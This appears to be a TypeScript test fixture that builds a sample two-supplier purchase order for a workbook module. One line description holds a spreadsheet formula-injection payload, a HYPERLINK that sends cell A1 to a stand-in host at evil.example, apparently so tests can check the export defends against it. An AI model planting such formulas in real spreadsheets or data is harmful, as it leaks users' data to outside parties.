// A purchase order for tests: a split between two suppliers, as the seed's curveball makes it, with the amounts
// computed in cents the way allocation.ts computes them, so that they add up exactly as a real PO's do.
import type {
  PurchaseOrderAllocation,
  PurchaseOrderDocument,
  PurchaseOrderLine,
} from '../../src/decision/po-workbook.js';
import { fromCents, toCents } from '../../src/commerce/money.js';

type LineInput = Omit<PurchaseOrderLine, 'lineTotal'>;

function allocation(
  supplier: PurchaseOrderAllocation['supplier'],
  terms: { paymentTerms: string; leadTimeDays: number; cashFlowRate: number },
  lines: readonly LineInput[],
): Omit<PurchaseOrderAllocation, 'share'> {
  const priced = lines.map((line) => ({
    ...line,
    lineTotal: fromCents(Math.round(line.quantity * line.unitPrice * 100)),
  }));
  const fob = priced.reduce((sum, line) => sum + toCents(line.lineTotal), 0);
  const cash = Math.round(fob * terms.cashFlowRate);
  return {
    supplier,
    paymentTerms: terms.paymentTerms,
    leadTimeDays: terms.leadTimeDays,
    lines: priced,
    fobCost: fromCents(fob),
    cashFlowCost: fromCents(cash),
    effectiveLandedCost: fromCents(fob + cash),
  };
}

/** Two suppliers, five lines; one description is a formula a supplier typed into its quotation. */
export function samplePurchaseOrder(overrides: Partial<PurchaseOrderDocument> = {}): PurchaseOrderDocument {
  const breaks = (base: number) => [
    { minQty: 100, unitPrice: base },
    { minQty: 500, unitPrice: Math.round(base * 0.95 * 100) / 100 },
    { minQty: 1000, unitPrice: Math.round(base * 0.9 * 100) / 100 },
  ];
  const parts = [
    allocation(
      { code: 'SUP-002', name: 'Orion Textiles' },
      { paymentTerms: '40/60', leadTimeDays: 25, cashFlowRate: 0.0022 },
      [
        {
          sku: 'VO-JKT-2201-BLK-M',
          description: 'Alpine shell jacket, black, M',
          quantity: 600,
          unitPrice: 38.4,
          tiers: breaks(40.5),
        },
        {
          sku: 'VO-JKT-2201-BLK-L',
          description: 'Alpine shell jacket, black, L',
          quantity: 450,
          unitPrice: 38.4,
          tiers: breaks(40.5),
        },
        {
          sku: 'VO-FLC-1140-GRY-M',
          description: '=HYPERLINK("http://evil.example/?leak="&A1,"Fleece midlayer, grey, M")',
          quantity: 300,
          unitPrice: 21.1275,
          tiers: breaks(22.9),
        },
      ],
    ),
    allocation(
      { code: 'SUP-003', name: 'Pacific Stitch Co.' },
      { paymentTerms: '33/33/33', leadTimeDays: 50, cashFlowRate: 0.0055 },
      [
        {
          sku: 'VO-PNT-3305-OLV-32',
          description:
            'Trail trousers, olive, waist 32, ripstop nylon with DWR finish, articulated knees and zip-off lower legs',
          quantity: 800,
          unitPrice: 24.15,
          tiers: breaks(25.4),
        },
        { sku: 'VO-CAP-0090-NVY', description: 'Logo cap, navy', quantity: 1200, unitPrice: 4.35, tiers: [] },
      ],
    ),
  ];
  const fob = parts.reduce((sum, part) => sum + toCents(part.fobCost), 0);
  const cash = parts.reduce((sum, part) => sum + toCents(part.cashFlowCost), 0);
  const overhead = Math.round(fob * 0.05);
  return {
    number: 'PO-2026-0001',
    date: '2026-03-02',
    status: 'draft',
    buyer: { name: 'Valden Outdoor' },
    currency: 'USD',
    incoterm: 'FOB Shanghai',
    allocations: parts.map((part) => ({ ...part, share: Math.round((toCents(part.fobCost) / fob) * 10_000) / 10_000 })),
    totals: {
      fobCost: fromCents(fob),
      cashFlowCost: fromCents(cash),
      splitOverhead: fromCents(overhead),
      effectiveLandedCost: fromCents(fob + cash + overhead),
    },
    approvals: [],
    notes: [
      'Split recommended: Orion Textiles can fill only 60% of the order after the curveball; the rest goes to Pacific ' +
        'Stitch Co., which still wins after the 5% split-order overhead.',
    ],
    ...overrides,
  };
}
